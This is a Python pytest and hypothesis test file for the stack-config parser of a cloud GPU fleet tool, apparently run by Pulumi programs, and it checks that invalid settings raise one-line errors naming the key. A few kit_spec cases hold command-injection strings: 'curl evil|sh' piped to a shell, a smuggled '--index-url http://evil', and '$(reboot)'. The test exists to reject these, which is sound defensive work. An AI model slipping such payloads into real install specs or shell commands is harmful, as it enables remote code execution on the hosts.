"""Stack config abuse (rlfleet_cloud.settings.parse_settings, what both Pulumi programs call on
their config): every bad value is a StackConfigError of one line naming the config key."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rlfleet_cloud.settings import StackConfigError, parse_settings

from .conftest import Sandbox
from .harness import assert_one_line, count, fuzz, unchanged

GOOD = {"admin_cidrs": "203.0.113.0/24"}


def check_config_error(sb: Sandbox, cloud: str, cfg: dict[str, str], *needles: str) -> None:
    count("stack")
    with unchanged(*sb.roots):
        with pytest.raises(StackConfigError) as ei:
            parse_settings(cloud, {**GOOD, **cfg}.get, stack="abuse")
    assert_one_line(str(ei.value), *needles)


# (cloud, config, words)
TABLE: list[tuple[str, dict[str, str], list[str]]] = [
    ("aws", {"admin_cidrs": ""}, ["admin_cidrs", "required"]),
    ("aws", {"admin_cidrs": "   "}, ["admin_cidrs", "required"]),
    ("aws", {"admin_cidrs": "[]"}, ["admin_cidrs", "empty"]),
    ("aws", {"admin_cidrs": "["}, ["admin_cidrs", "JSON"]),
    ("aws", {"admin_cidrs": '["10.0.0.0/8"'}, ["admin_cidrs", "JSON"]),
    ("aws", {"admin_cidrs": "[[1]]"}, ["admin_cidrs"]),
    ("aws", {"admin_cidrs": "[null]"}, ["admin_cidrs"]),
    ("aws", {"admin_cidrs": "{}"}, ["admin_cidrs"]),
    ("aws", {"admin_cidrs": ","}, ["admin_cidrs"]),
    ("aws", {"admin_cidrs": "10.0.0.300/32"}, ["admin_cidrs", "10.0.0.300/32"]),
    ("aws", {"admin_cidrs": "10.0.0.1/8"}, ["admin_cidrs", "host bits"]),
    ("aws", {"admin_cidrs": "0.0.0.0/0"}, ["admin_cidrs", "internet"]),
    ("aws", {"admin_cidrs": "::/0"}, ["admin_cidrs", "internet"]),
    ("aws", {"admin_cidrs": "0.0.0.0/1,128.0.0.0/1"}, ["admin_cidrs"]),
    ("gcp", {"admin_cidrs": "::ffff:0:0/96"}, ["admin_cidrs"]),
    ("aws", {"admin_cidrs": "203.0.113.7/32\n"}, []),  # a trailing newline is trimmed: accepted below
    ("aws", {"allow_world_control_ports": "maybe"}, ["allow_world_control_ports"]),
    ("aws", {"network_cidr": "10.42.0.0/33"}, ["network_cidr"]),
    ("aws", {"network_cidr": "bogus"}, ["network_cidr"]),
    ("aws", {"subnet_cidr": "10.43.1.0/24"}, ["subnet_cidr", "network_cidr"]),
    ("aws", {"subnet_cidr": "fd00::/64"}, ["subnet_cidr", "network_cidr"]),  # was a TypeError (IPv4 vs IPv6)
    ("gcp", {"network_cidr": "fd00::/48", "subnet_cidr": "10.42.1.0/24"}, ["subnet_cidr"]),
    ("aws", {"worker_instance_type": "m5.large"}, ["worker_instance_type"]),
    ("aws", {"worker_instance_type": ""}, ["worker_instance_type"]),
    ("aws", {"gpu_type": "z100"}, ["gpu_type", "z100"]),
    ("aws", {"gpu_type": "l4"}, ["gpu_type"]),
    ("aws", {"gpu_count": "2"}, ["gpu_count"]),
    ("aws", {"gpu_count": "x"}, ["gpu_count"]),
    ("aws", {"worker_instance_type": "m5.large", "gpu_type": "a10g", "gpu_count": "0"}, ["gpu_count"]),
    ("gcp", {"worker_instance_type": "n1-standard-8", "gpu_type": "nvidia-l4"}, ["gpu_type"]),
    ("gcp", {"worker_instance_type": "n1-standard-8", "gpu_count": "3"}, ["gpu_count"]),
    ("gcp", {"gpu_type": "nvidia-z1"}, ["gpu_type"]),
    ("aws", {"api_port": "6379"}, ["api_port", "Ray"]),
    ("aws", {"api_port": "80"}, ["api_port"]),
    ("aws", {"api_port": "70000"}, ["api_port"]),
    ("aws", {"api_port": "8443.0"}, ["api_port"]),
    ("aws", {"worker_count": "many"}, ["worker_count", "'many'"]),
    ("aws", {"worker_count": "-1"}, ["worker_count"]),
    ("aws", {"worker_count": "1" * 5000}, ["worker_count"]),
    ("aws", {"disk_size_gb": "10"}, ["disk_size_gb"]),
    ("aws", {"idle_minutes": "0"}, ["idle_minutes"]),
    ("aws", {"max_lifetime_hours": "-5"}, ["max_lifetime_hours"]),
    ("aws", {"disk_alarm_percent": "100"}, ["disk_alarm_percent"]),
    ("aws", {"checkpoint_noncurrent_days": "0"}, ["checkpoint_noncurrent_days"]),
    ("aws", {"log_retention_days": "1e3"}, ["log_retention_days"]),
    ("aws", {"spot": "sometimes"}, ["spot"]),
    ("aws", {"secure_boot": "2"}, ["secure_boot"]),
    ("aws", {"kit_spec": "rlfleet; curl evil|sh"}, ["kit_spec"]),
    ("aws", {"kit_spec": "rlfleet\n--index-url http://evil"}, ["kit_spec"]),
    ("aws", {"kit_spec": "http://example.com/rlfleet.whl"}, ["kit_spec"]),
    ("aws", {"kit_spec": "$(reboot)"}, ["kit_spec"]),
    ("aws", {"ray_version": "latest"}, ["ray_version"]),
    ("aws", {"ray_version": "2.60.0\n"}, ["ray_version"]),
    ("aws", {"alert_email": "ops"}, ["alert_email"]),
    ("aws", {"alert_email": "a@b.c\n"}, ["alert_email"]),
    ("aws", {"existing_network": "vpc-1"}, ["existing_network", "existing_subnet"]),
    ("gcp", {"existing_subnet": "sub"}, ["existing_network", "existing_subnet"]),
]


@pytest.mark.parametrize(("cloud", "cfg", "needles"), [t for t in TABLE if t[2]],
                         ids=[f"s{i}" for i, t in enumerate(TABLE) if t[2]])
def test_bad_config(sandbox: Sandbox, cloud: str, cfg: dict[str, str], needles: list[str]) -> None:
    check_config_error(sandbox, cloud, cfg, *needles)


def test_unknown_cloud(sandbox: Sandbox) -> None:
    check_config_error(sandbox, "azure", {}, "azure")


def test_trimmed_values_still_parse() -> None:
    s = parse_settings("aws", {**GOOD, "admin_cidrs": "203.0.113.7/32\n"}.get, stack="abuse")
    assert s.admin_cidrs == ("203.0.113.7/32",)


# -- generated ----------------------------------------------------------------------------------

INT_KEYS = {"worker_count": (0, 64), "disk_size_gb": (50, 16384), "idle_minutes": (5, 1440),
            "max_lifetime_hours": (0, 720), "disk_alarm_percent": (50, 99), "api_port": (1024, 65535),
            "checkpoint_noncurrent_days": (1, 3650), "checkpoint_archive_days": (1, 3650),
            "log_retention_days": (1, 3653)}
BOOL_KEYS = ("spot", "secure_boot", "allow_world_control_ports")
_word = st.from_regex(r"[a-z]{1,8}", fullmatch=True)


def _bad_int(key: str) -> st.SearchStrategy[str]:
    lo, hi = INT_KEYS[key]
    return st.one_of(_word, st.integers(max_value=lo - 1).map(str), st.integers(min_value=hi + 1).map(str),
                     st.floats(allow_nan=False, allow_infinity=False).filter(lambda f: f != int(f)).map(str))


_bad = st.one_of(
    st.sampled_from(sorted(INT_KEYS)).flatmap(lambda k: st.tuples(st.just(k), _bad_int(k))),
    st.tuples(st.sampled_from(BOOL_KEYS), _word.filter(lambda w: w not in ("true", "false", "yes", "no"))),
    st.tuples(st.just("admin_cidrs"), st.one_of(_word, st.from_regex(r"[0-9]{3,4}\.[0-9]{1,3}\.0\.0/[0-9]{1,2}",
                                                                    fullmatch=True))),
    st.tuples(st.just("network_cidr"), _word),
    st.tuples(st.just("ray_version"), st.from_regex(r"[0-9]{1,2}(\.[0-9]{1,2})?(-[a-z]+)?", fullmatch=True)),
    st.tuples(st.just("kit_spec"), st.from_regex(r"rlfleet[;|&`$][a-z ]{0,8}", fullmatch=True)),
    st.tuples(st.just("alert_email"), _word),
    st.tuples(st.just("gpu_type"), _word),
)


@fuzz(60)
@given(st.sampled_from(["aws", "gcp"]), _bad)
def test_generated_bad_value_names_key(sandbox: Sandbox, cloud: str, case: tuple[str, str]) -> None:
    key, value = case
    check_config_error(sandbox, cloud, {key: value}, key)
